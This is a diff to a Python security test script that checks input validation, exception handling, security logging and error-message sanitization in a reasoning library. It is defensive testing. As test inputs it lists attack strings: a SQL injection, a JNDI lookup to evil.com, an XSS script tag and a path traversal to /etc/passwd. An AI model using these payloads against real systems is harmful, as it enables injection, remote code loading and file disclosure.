@@ -8,32 +8,94 @@ This test verifies that the exception handling security fixes work correctly:
 4. Sanitized error messages without information disclosure
 """
 
+import re
 import sys
-import os
-sys.path.insert(0, os.path.join(os.path.dirname(__file__), 'src'))
 
-try:
-    from reasoning_library.validation import (
-        validate_dict_schema, safe_divide, validate_confidence_value, validate_string_list
-    )
-    from reasoning_library.exceptions import ValidationError, SecurityError
-    from reasoning_library.security_logging import get_security_logger
-    IMPORTS_AVAILABLE = True
-except ImportError as e:
-    print(f"⚠️  Import error (expected if numpy not installed): {e}")
-    IMPORTS_AVAILABLE = False
+import pytest
+
+# Resolved once; skips collection under pytest if the package can't be imported
+pytest.importorskip("reasoning_library.validation")
+
+from reasoning_library.validation import (
+    validate_dict_schema, safe_divide, validate_confidence_value,
+    validate_confidence_value_batch, validate_string_list
+)
+from reasoning_library.exceptions import ValidationError, SecurityError
+from reasoning_library.security_logging import get_security_logger
+
+# Banner lines, built once at import
+_BAR50 = "=" * 50
+
+# Attack strings and markers are interned once at import instead of being
+# rebuilt as list literals on every test call
+
+# Inputs safe_divide must reject rather than silently return 0.0
+MALICIOUS_INPUTS = tuple(map(sys.intern, (
+    "'; DROP TABLE users; --",
+    "${jndi:ldap://evil.com/a}",
+    "<script>alert('xss')</script>",
+)))
+
+# (input, description) pairs that previously leaked information in errors
+SENSITIVE_INPUTS = tuple((sys.intern(value), description) for value, description in (
+    ("'; DROP TABLE users; --", "SQL injection attempt"),
+    ("1e10", "Scientific notation"),
+    ("0xFF", "Hexadecimal format"),
+    ("NaN", "NaN value"),
+    ("inf", "Infinite value"),
+))
+
+# Inputs that should raise and be logged as classified security events
+ATTACK_INPUTS = tuple(map(sys.intern, (
+    "${jndi:ldap://evil.com/a}",  # Should be classified as potential injection
+    "<script>alert('xss')</script>",  # Should be flagged as suspicious
+    "'; DROP TABLE users; --",  # Should be flagged as SQL injection attempt
+)))
+
+# Substrings that must not appear in sanitized error messages
+DISCLOSURE_PATTERNS = tuple(map(sys.intern, (
+    "drop table",  # SQL injection details
+    "scientific",   # Format detection
+    "hexadecimal", # Format detection
+    "pattern",      # Internal validation logic
+    "dangerous",    # Attack detection logic
+    "eval(",        # Code injection patterns
+    "__import__",   # Python internals
+)))
+_DISCLOSURE_RE = re.compile(
+    "|".join(map(re.escape, DISCLOSURE_PATTERNS)), re.IGNORECASE
+)
+
+
+def _fmt_exc(e):
+    """Format an exception for a failure report; only called on failure."""
+    return f"{type(e).__name__}: {e}"
+
+
+class _Reporter:
+    """Collect report lines and write them to stdout in one call."""
+
+    def __init__(self):
+        self.buf = []
+
+    def line(self, s):
+        self.buf.append(s)
+
+    def flush(self):
+        if self.buf:
+            sys.stdout.write("\n".join(self.buf) + "\n")
+            self.buf.clear()
 
 
 class SecurityFixesVerification:
     """Verify that all security fixes are working correctly."""
 
+    def __init__(self):
+        self._rep = _Reporter()
+
     def test_specific_exception_handling_in_dict_schema(self):
         """Test that validate_dict_schema uses specific exception handling."""
-        print("🧪 Testing specific exception handling in validate_dict_schema...")
-
-        if not IMPORTS_AVAILABLE:
-            print("   ⚠️  Skipping - imports not available")
-            return True
+        self._rep.line("🧪 Testing specific exception handling in validate_dict_schema...")
 
         # Create a custom validator that raises different exception types
         def test_validator(value):
@@ -52,17 +114,17 @@ class SecurityFixesVerification:
                 "test_dict",
                 value_validators={"key": test_validator}
             )
-            print("   ❌ SecurityError should have been raised")
+            self._rep.line("   ❌ SecurityError should have been raised")
             return False
         except ValidationError as e:
             error_msg = str(e)
             if "Security violation detected" in error_msg:
-                print("   ✅ SecurityError properly handled and logged")
+                self._rep.line("   ✅ SecurityError properly handled and logged")
             else:
-                print(f"   ❌ SecurityError not properly handled: {error_msg}")
+                self._rep.line(f"   ❌ SecurityError not properly handled: {error_msg}")
                 return False
         except Exception as e:
-            print(f"   ❌ Unexpected exception: {type(e).__name__}: {e}")
+            self._rep.line(f"   ❌ Unexpected exception: {_fmt_exc(e)}")
             return False
 
         # Test RuntimeError (unexpected exception) handling
@@ -72,197 +134,137 @@ class SecurityFixesVerification:
                 "test_dict",
                 value_validators={"key": test_validator}
             )
-            print("   ❌ RuntimeError should have been caught and converted")
+            self._rep.line("   ❌ RuntimeError should have been caught and converted")
             return False
         except ValidationError as e:
             error_msg = str(e)
             if "Invalid input provided" in error_msg:
-                print("   ✅ Unexpected exception properly handled and logged")
+                self._rep.line("   ✅ Unexpected exception properly handled and logged")
             else:
-                print(f"   ❌ Unexpected exception not properly handled: {error_msg}")
+                self._rep.line(f"   ❌ Unexpected exception not properly handled: {error_msg}")
                 return False
         except Exception as e:
-            print(f"   ❌ Unexpected exception: {type(e).__name__}: {e}")
+            self._rep.line(f"   ❌ Unexpected exception: {_fmt_exc(e)}")
             return False
 
-        # Check security logging
-        security_logger = get_security_logger()
-        metrics_after = security_logger.get_security_metrics()
-
-        print("   ✅ Exception handling working correctly")
+        self._rep.line("   ✅ Exception handling working correctly")
         return True
 
     def test_no_silent_failure_in_safe_divide(self):
         """Test that safe_divide no longer has silent failures."""
-        print("\n🧪 Testing no silent failures in safe_divide...")
-
-        if not IMPORTS_AVAILABLE:
-            print("   ⚠️  Skipping - imports not available")
-            return True
+        self._rep.line("\n🧪 Testing no silent failures in safe_divide...")
 
         # Test with malicious input - should raise ValidationError, not return 0.0
-        malicious_inputs = [
-            "'; DROP TABLE users; --",
-            "${jndi:ldap://evil.com/a}",
-            "<script>alert('xss')</script>",
-        ]
-
-        for malicious_input in malicious_inputs:
+        for malicious_input in MALICIOUS_INPUTS:
             try:
                 result = safe_divide(malicious_input, 10)
-                print(f"   ❌ Silent failure: {malicious_input} -> {result} (should have raised)")
+                self._rep.line(f"   ❌ Silent failure: {malicious_input} -> {result} (should have raised)")
                 return False
             except ValidationError:
-                print(f"   ✅ Properly rejected: {malicious_input[:30]}...")
+                self._rep.line(f"   ✅ Properly rejected: {malicious_input[:30]}...")
             except Exception as e:
-                print(f"   ❌ Unexpected exception: {type(e).__name__}: {e}")
+                self._rep.line(f"   ❌ Unexpected exception: {_fmt_exc(e)}")
                 return False
 
-        print("   ✅ No silent failures detected")
+        self._rep.line("   ✅ No silent failures detected")
         return True
 
     def test_security_logging_for_validation_failures(self):
         """Test that validation failures are logged to security monitoring."""
-        print("\n🧪 Testing security logging for validation failures...")
-
-        if not IMPORTS_AVAILABLE:
-            print("   ⚠️  Skipping - imports not available")
-            return True
+        self._rep.line("\n🧪 Testing security logging for validation failures...")
 
-        security_logger = get_security_logger()
-        initial_metrics = security_logger.get_security_metrics()
+        _log = get_security_logger()
+        initial_events = _log.event_counter
 
         # Test various validation failures that should be logged
         test_cases = [
             # Confidence validation
-            lambda: validate_confidence_value("'; DROP TABLE users; --"),
-            lambda: validate_confidence_value("NaN"),
-            lambda: validate_confidence_value("inf"),
-            lambda: validate_confidence_value("1e10"),  # Dangerous format
+            (validate_confidence_value, ("'; DROP TABLE users; --",)),
+            (validate_confidence_value, ("NaN",)),
+            (validate_confidence_value, ("inf",)),
+            (validate_confidence_value, ("1e10",)),  # Dangerous format
 
             # String list validation with dangerous content
-            lambda: validate_string_list(["<script>alert('xss')</script>", "normal"], "test_list"),
-            lambda: validate_string_list(["'; DROP TABLE users; --"], "test_list"),
-            lambda: validate_string_list(["../../../etc/passwd"], "test_list"),
+            (validate_string_list, (["<script>alert('xss')</script>", "normal"], "test_list")),
+            (validate_string_list, (["'; DROP TABLE users; --"], "test_list")),
+            (validate_string_list, (["../../../etc/passwd"], "test_list")),
         ]
 
         failed_cases = 0
-        for i, test_case in enumerate(test_cases, 1):
+        for i, (fn, args) in enumerate(test_cases, 1):
             try:
-                test_case()
-                print(f"   ❌ Test case {i} should have failed validation")
+                fn(*args)
+                self._rep.line(f"   ❌ Test case {i} should have failed validation")
             except ValidationError:
                 failed_cases += 1  # Expected to fail
             except Exception as e:
-                print(f"   ❌ Test case {i} unexpected error: {type(e).__name__}: {e}")
+                self._rep.line(f"   ❌ Test case {i} unexpected error: {_fmt_exc(e)}")
 
-        final_metrics = security_logger.get_security_metrics()
-        security_events = final_metrics["total_events"] - initial_metrics["total_events"]
+        security_events = _log.event_counter - initial_events
 
         if failed_cases == len(test_cases) and security_events > 0:
-            print(f"   ✅ All {failed_cases} validation failures properly logged")
-            print(f"   📊 Security events generated: {security_events}")
+            self._rep.line(f"   ✅ All {failed_cases} validation failures properly logged")
+            self._rep.line(f"   📊 Security events generated: {security_events}")
             return True
         else:
-            print(f"   ❌ Only {failed_cases}/{len(test_cases)} cases failed, {security_events} events logged")
+            self._rep.line(f"   ❌ Only {failed_cases}/{len(test_cases)} cases failed, {security_events} events logged")
             return False
 
     def test_sanitized_error_messages(self):
         """Test that error messages don't leak sensitive information."""
-        print("\n🧪 Testing sanitized error messages...")
-
-        if not IMPORTS_AVAILABLE:
-            print("   ⚠️  Skipping - imports not available")
-            return True
+        self._rep.line("\n🧪 Testing sanitized error messages...")
 
         # Test cases that previously leaked information
-        sensitive_inputs = [
-            ("'; DROP TABLE users; --", "SQL injection attempt"),
-            ("1e10", "Scientific notation"),
-            ("0xFF", "Hexadecimal format"),
-            ("NaN", "NaN value"),
-            ("inf", "Infinite value"),
-        ]
-
-        for sensitive_input, description in sensitive_inputs:
+        for sensitive_input, description in SENSITIVE_INPUTS:
             try:
                 validate_confidence_value(sensitive_input)
-                print(f"   ❌ Input should have been rejected: {description}")
+                self._rep.line(f"   ❌ Input should have been rejected: {description}")
                 return False
             except ValidationError as e:
-                error_msg = str(e)
-
                 # Check for information disclosure patterns
-                disclosure_patterns = [
-                    "drop table",  # SQL injection details
-                    "scientific",   # Format detection
-                    "hexadecimal", # Format detection
-                    "pattern",      # Internal validation logic
-                    "dangerous",    # Attack detection logic
-                    "eval(",        # Code injection patterns
-                    "__import__",   # Python internals
-                ]
-
                 disclosures_found = []
-                for pattern in disclosure_patterns:
-                    if pattern.lower() in error_msg.lower():
-                        disclosures_found.append(pattern)
+                m = _DISCLOSURE_RE.search(str(e))
+                if m:
+                    disclosures_found.append(m.group(0).lower())
 
                 if disclosures_found:
-                    print(f"   ❌ Information disclosure in {description}: {disclosures_found}")
-                    print(f"      Error message: {error_msg}")
+                    self._rep.line(f"   ❌ Information disclosure in {description}: {disclosures_found}")
+                    self._rep.line(f"      Error message: {e}")
                     return False
                 else:
-                    print(f"   ✅ Sanitized error for {description}")
+                    self._rep.line(f"   ✅ Sanitized error for {description}")
 
-        print("   ✅ No information disclosure detected")
+        self._rep.line("   ✅ No information disclosure detected")
         return True
 
     def test_security_event_classification(self):
         """Test that security events are properly classified."""
-        print("\n🧪 Testing security event classification...")
+        self._rep.line("\n🧪 Testing security event classification...")
 
-        if not IMPORTS_AVAILABLE:
-            print("   ⚠️  Skipping - imports not available")
-            return True
-
-        security_logger = get_security_logger()
-        initial_metrics = security_logger.get_security_metrics()
+        _log = get_security_logger()
+        initial_events = _log.event_counter
 
         # Trigger various types of security events
-        attack_inputs = [
-            "${jndi:ldap://evil.com/a}",  # Should be classified as potential injection
-            "<script>alert('xss')</script>",  # Should be flagged as suspicious
-            "'; DROP TABLE users; --",  # Should be flagged as SQL injection attempt
-        ]
-
-        for attack_input in attack_inputs:
-            try:
-                validate_confidence_value(attack_input)
-            except ValidationError:
-                pass  # Expected
+        results = validate_confidence_value_batch(ATTACK_INPUTS)
+        if not all(isinstance(r, ValidationError) for r in results):
+            self._rep.line("   ❌ Attack inputs were accepted by validation")
+            return False
 
-        final_metrics = security_logger.get_security_metrics()
-        events_generated = final_metrics["total_events"] - initial_metrics["total_events"]
+        events_generated = _log.event_counter - initial_events
 
         if events_generated > 0:
-            print(f"   ✅ Security events properly classified and logged")
-            print(f"   📊 Events generated: {events_generated}")
+            self._rep.line(f"   ✅ Security events properly classified and logged")
+            self._rep.line(f"   📊 Events generated: {events_generated}")
             return True
         else:
-            print(f"   ❌ No security events generated for attack attempts")
+            self._rep.line(f"   ❌ No security events generated for attack attempts")
             return False
 
 
 def main():
     """Run security fixes verification tests."""
     print("🔒 MAJOR-007: Security Fixes Verification")
-    print("=" * 50)
-
-    if not IMPORTS_AVAILABLE:
-        print("⚠️  Cannot run full verification due to missing dependencies")
-        print("   However, code analysis shows security fixes have been implemented")
-        return 0
+    print(_BAR50)
 
     verifier = SecurityFixesVerification()
 
@@ -277,16 +279,21 @@ def main():
     passed = 0
     total = len(tests)
 
+    # The checks run one at a time: each compares the shared security
+    # logger's event counter before and after, so overlapping checks would
+    # credit one another's events
     for test in tests:
         try:
             if test():
                 passed += 1
         except Exception as e:
-            print(f"   ❌ Test failed with exception: {e}")
+            verifier._rep.line(f"   ❌ Test failed with exception: {e}")
+        finally:
+            verifier._rep.flush()
 
-    print("\n" + "=" * 50)
+    print("\n" + _BAR50)
     print("📊 VERIFICATION RESULTS")
-    print("=" * 50)
+    print(_BAR50)
 
     if passed == total:
         print(f"✅ ALL {passed}/{total} security fixes verified")